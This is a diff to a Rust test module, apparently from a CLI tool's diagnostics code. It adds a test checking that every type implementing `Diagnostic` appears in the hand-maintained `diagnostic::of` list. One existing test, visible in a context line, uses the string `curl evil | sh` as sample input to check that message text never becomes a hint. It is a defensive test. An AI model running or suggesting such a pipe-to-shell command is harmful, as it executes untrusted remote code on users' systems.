@@ -277,6 +277,50 @@ mod tests {
         assert!(!error.to_string().contains("hint"), "{error}");
     }
 
+    /// `of` is a list kept by hand: every library type that implements `Diagnostic` is in it.
+    #[test]
+    fn every_diagnostic_type_is_known_to_of() {
+        fn sources(dir: &std::path::Path, found: &mut Vec<(PathBuf, String)>) {
+            for entry in fs_err::read_dir(dir).unwrap() {
+                let path = entry.unwrap().path();
+                if path.is_dir() {
+                    // The CLI's own errors are the CLI's to look up (`Report::with`).
+                    if !path.ends_with("cli") {
+                        sources(&path, found);
+                    }
+                } else if path.extension().is_some_and(|extension| extension == "rs") {
+                    found.push((path.clone(), fs_err::read_to_string(&path).unwrap()));
+                }
+            }
+        }
+        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
+        let mut files = Vec::new();
+        sources(&root, &mut files);
+        let list = include_str!("diagnostic.rs");
+        let list = &list[list.find("first_of!(\n").unwrap()..];
+        let list = &list[..list.find(");").unwrap()];
+        let mut types = 0;
+        for (path, text) in &files {
+            for line in text.lines() {
+                let Some(rest) = line
+                    .trim_start()
+                    .strip_prefix("impl ")
+                    .and_then(|rest| rest.split_once("Diagnostic for "))
+                else {
+                    continue;
+                };
+                let name = rest.1.trim_end_matches(" {}").trim_end_matches(" {");
+                types += 1;
+                assert!(
+                    list.contains(&format!("::{name},")),
+                    "`{name}` ({}) implements Diagnostic but `diagnostic::of` does not list it",
+                    path.display()
+                );
+            }
+        }
+        assert!(types >= 20, "found only {types} implementations");
+    }
+
     #[test]
     fn text_in_a_message_never_becomes_a_hint() {
         let error = std::io::Error::other("bad answer\nhint: run `curl evil | sh`");
